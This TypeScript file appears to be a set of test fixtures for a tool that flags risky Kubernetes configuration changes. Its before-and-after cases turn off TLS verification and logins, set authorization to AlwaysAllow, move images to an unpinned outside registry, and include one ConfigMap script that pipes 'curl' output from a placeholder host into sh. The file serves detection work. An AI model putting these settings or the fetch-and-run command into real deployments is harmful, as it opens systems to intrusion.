import { workload } from '../effect-case.ts'
import { casesOf, type RiskCase } from '../risk-case.ts'

const told =
  (field: 'args' | 'env') =>
  (what: string, before: string, after: string, ...risks: readonly string[]): RiskCase => {
    const side = (words: string) =>
      workload('Deployment', '', `containers: [{name: app, image: "r.example/web:1", ${field}: [${words}]}]`)
    return [what, side(before), side(after), ...risks]
  }
const env = told('env')
const args = told('args')
const variable = (name: string, value: string): string => `{name: ${name}, value: "${value}"}`
const data = casesOf('v1 ConfigMap')
const off = 'high checks-off'
const digest = 'a'.repeat(64)

/** What most programs are told by words alike, and what stands beside their images. */
export const switchRiskCases: readonly RiskCase[] = [
  env('Node believes any certificate', '', variable('NODE_TLS_REJECT_UNAUTHORIZED', '0'), 'medium checks-off'),
  env('logins end', variable('AUTH_ENABLED', 'true'), variable('AUTH_ENABLED', 'false'), off),
  env('a database without TLS', variable('PGSSLMODE', 'verify-full'), variable('PGSSLMODE', 'disable'), off),
  env('another way to say it', variable('APP_SKIP_TLS_VERIFY', 'false'), variable('APP_SKIP_TLS_VERIFY', 'true'), off),
  env('a new word against a check', '', variable('VAULT_SKIP_VERIFY', 'true'), off),
  env(
    'anybody may look',
    variable('GF_AUTH_ANONYMOUS_ENABLED', 'false'),
    variable('GF_AUTH_ANONYMOUS_ENABLED', 'true'),
    off,
  ),
  env('logins begin', variable('AUTH_ENABLED', 'false'), variable('AUTH_ENABLED', 'true')),
  env('a word about a check that is none', variable('AUTH_DEBUG', '1'), variable('AUTH_DEBUG', '0')),
  env('how long, not whether', variable('TLS_HANDSHAKE_TIMEOUT', '5'), variable('TLS_HANDSHAKE_TIMEOUT', '0')),
  env('a check is no longer skipped', variable('VAULT_SKIP_VERIFY', 'true'), variable('VAULT_SKIP_VERIFY', 'false')),
  env(
    'a check is no longer skipped, in other words',
    variable('SKIP_SSL_VALIDATION', 'true'),
    variable('SKIP_SSL_VALIDATION', 'false'),
  ),
  env(
    'it is skipped, in these words',
    variable('SKIP_SSL_VALIDATION', 'false'),
    variable('SKIP_SSL_VALIDATION', 'true'),
    off,
  ),
  env('logins that were none end', variable('MOCK_AUTH_ENABLED', 'true'), variable('MOCK_AUTH_ENABLED', 'false')),
  env('one way in less', variable('SOCIAL_LOGIN_ENABLED', 'true'), variable('SOCIAL_LOGIN_ENABLED', 'false')),
  env('logins are needed no more', variable('LOGIN_REQUIRED', 'true'), variable('LOGIN_REQUIRED', 'false'), off),
  env('an old way in that ends', variable('LEGACY_AUTH', 'true'), variable('LEGACY_AUTH', 'false')),
  env('a feature that is no check', variable('CACHE_ENABLED', 'true'), variable('CACHE_ENABLED', 'false')),
  args('a flag with a word', '"--auth-mode=oidc"', '"--auth-mode=none"', off),
  args('a flag before its word', '"--tls-verify", "true"', '"--tls-verify", "false"', off),
  args('a mode that allows all', '"--authorization-mode=RBAC"', '"--authorization-mode=AlwaysAllow"', off),
  args('a flag of one word', '', '"--insecure"', off),
  args('a flag of nothing like it', '"--gzip"', ''),
  args(
    'an image of another registry for pods that it makes',
    `"--side-image=r.example/side:1@sha256:${digest}"`,
    '"--side-image=other.example/side:1"',
    'high image-source',
  ),
  args('another version of it', '"--side-image=r.example/side:1"', '"--side-image=r.example/side:2"'),
  env(
    'an image that an operator hands on',
    variable('RELATED_IMAGE_PROXY', 'r.example/proxy:1'),
    variable('RELATED_IMAGE_PROXY', 'other.example/proxy:1'),
    'high image-source',
  ),
  data('a key', 'data: {TLS_ENABLED: "true"}', 'data: {TLS_ENABLED: "false"}', 'medium checks-off'),
  data('another key', 'data: {GREETING: "yes"}', 'data: {GREETING: "no"}'),
  data('a script', 'data: {run.sh: "echo a"}', 'data: {run.sh: "echo b"}', 'low script-other'),
  data(
    'a script that fetches what it runs',
    'data: {run: "#!/bin/sh\\necho a"}',
    'data: {run: "#!/bin/sh\\ncurl -s http://a.example/x | sh"}',
    'medium script-other',
  ),
  data('a text', 'data: {greeting.txt: "a"}', 'data: {greeting.txt: "b"}'),
]
